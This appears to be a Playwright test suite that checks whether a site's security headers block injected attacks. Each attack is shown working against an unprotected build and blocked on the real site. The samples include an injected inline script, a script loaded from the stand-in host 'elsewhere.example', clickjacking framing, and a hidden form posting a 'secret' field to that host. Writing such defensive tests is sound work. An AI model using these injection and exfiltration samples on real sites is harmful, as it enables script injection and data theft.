/** The headers as the last line: each attack is stopped by them, and shown to work on the same site without them. */
import { join } from 'node:path'
import { isHandler, type Route } from '@vercel/routing-utils'
import type { Page } from 'playwright/test'
import { routesOf } from '#src/build/host/routes.ts'
import { paths } from '#src/config/paths.ts'
import { listen } from '../../api/_newsletter/listen.ts'
import { startServer } from '../../sandbox/host-server.ts'
import { SANDBOX_DIST } from '../../sandbox/build.ts'
import { expect, test as base } from './support/site.ts'

const ELSEWHERE = 'http://elsewhere.example'
const GUARDS = ['Content-Security-Policy', 'X-Frame-Options']
const root = join(import.meta.dirname, '../..', SANDBOX_DIST)

const test = base.extend<object, { unguarded: string }>({
  /** The same build, served by the same rules without the headers in question. */
  unguarded: [
    async ({}, use) => {
      const routes = routesOf(root).map((route): Route =>
        isHandler(route) || !route.headers
          ? route
          : {
              ...route,
              headers: Object.fromEntries(
                Object.entries(route.headers).filter(([name]) => !GUARDS.includes(name)),
              ),
            },
      )
      const server = await startServer({ root, routes })
      await use(server.origin)
      await server.close()
    },
    { scope: 'worker' },
  ],
})

/** A page into which somebody got some markup, with the headers that the host sent. */
async function inject(page: Page, markup: string) {
  await page.route(
    url => url.pathname === paths.about,
    async route => {
      const response = await route.fetch()
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
    },
  )
}

const ran = (page: Page) => page.evaluate(() => 'injected' in window)

test('an inline script -> does not run', async ({ page, site, unguarded, consoleErrors }) => {
  await inject(page, '<script>window.injected = true</script>')
  await page.goto(unguarded + paths.about)
  expect(await ran(page)).toBe(true)
  await page.goto(site.origin + paths.about)
  expect(await ran(page)).toBe(false)
  expect(consoleErrors.splice(0).some(error => error.includes('inline script'))).toBe(true)
})

test('a script from elsewhere -> is not asked for', async ({ page, site, unguarded, consoleErrors }) => {
  const asked: string[] = []
  await page.route(`${ELSEWHERE}/**`, async route => {
    asked.push(route.request().url())
    await route.fulfill({ contentType: 'text/javascript', body: 'window.injected = true' })
  })
  await inject(page, `<script src="${ELSEWHERE}/script.js"></script>`)
  await page.goto(unguarded + paths.about)
  expect(await ran(page)).toBe(true)
  await page.goto(site.origin + paths.about)
  expect(await ran(page)).toBe(false)
  expect(asked).toHaveLength(1)
  consoleErrors.splice(0)
})

test('a frame around the site -> stays empty', async ({ page, site, unguarded, consoleErrors }) => {
  // Another port is another origin; a browser keeps hosts that are really elsewhere from this machine's own.
  const other = await listen(request =>
    Promise.resolve(
      new Response(`<iframe src="${new URL(request.url).searchParams.get('of') ?? ''}"></iframe>`, {
        headers: { 'Content-Type': 'text/html' },
      }),
    ),
  )
  const framed = async (origin: string) => {
    await page.goto(`${other.origin}/?of=${origin + paths.about}`)
    await page.waitForLoadState('load')
    return page.frames().some(frame => frame.url() === origin + paths.about)
  }
  expect(await framed(unguarded)).toBe(true)
  expect(await framed(site.origin)).toBe(false)
  await other.close()
  consoleErrors.splice(0)
})

test('a form that posts elsewhere -> is not sent', async ({ page, site, unguarded, consoleErrors }) => {
  const sent: string[] = []
  await page.route(`${ELSEWHERE}/**`, async route => {
    sent.push(route.request().postData() ?? '')
    await route.fulfill({ contentType: 'text/html', body: 'caught' })
  })
  await inject(
    page,
    `<form id="injected" method="post" action="${ELSEWHERE}/"><input name="secret" value="1"></form>`,
  )
  const submit = async (origin: string) => {
    await page.goto(origin + paths.about)
    // Playwright waits for the navigation that a stopped form never makes.
    await page.evaluate(() =>
      setTimeout(() => (document.getElementById('injected') as HTMLFormElement).submit()),
    )
  }
  await submit(unguarded)
  await expect.poll(() => sent).toEqual(['secret=1'])
  await expect(page.getByText('caught')).toBeVisible()
  await submit(site.origin)
  await expect.poll(() => consoleErrors.some(error => error.includes('form-action'))).toBe(true)
  expect(sent).toHaveLength(1)
  consoleErrors.splice(0)
})

test('text that wants to become markup, or an address a script -> stopped on every page; on the checkout scripts are', async ({
  page,
  site,
  unguarded,
  consoleErrors,
}) => {
  const attempts = () =>
    page.evaluate(() => {
      const attempt = (run: () => void) => {
        try {
          run()
          return 'let through'
        } catch {
          return 'stopped'
        }
      }
      return [
        attempt(() => {
          document.createElement('div').innerHTML = '<b></b>'
        }),
        attempt(() => {
          document.createElement('script').src = 'https://elsewhere.example/script.js'
        }),
        attempt(() => {
          document.createElement('script').text = 'window.injected = true'
        }),
      ]
    })
  await page.goto(unguarded + paths.about)
  expect(await attempts()).toEqual(['let through', 'let through', 'let through'])
  await page.goto(site.origin + paths.about)
  expect(await attempts()).toEqual(['stopped', 'stopped', 'stopped'])
  // The SDKs' default policy is there as soon as one of them is wanted: their markup passes, other scripts do not.
  site.sandbox.cashfree.behaviour = 'stays'
  await page.goto(`${site.origin}${paths.checkout}?sessionId=sub_1`)
  await expect(page.locator('[data-machine="checkout"]')).toHaveAttribute(
    'data-state',
    /loading\.(?:fetched|starting|redirecting)/,
  )
  expect(await attempts()).toEqual(['let through', 'stopped', 'stopped'])
  site.sandbox.cashfree.behaviour = 'normal'
  consoleErrors.splice(0)
})
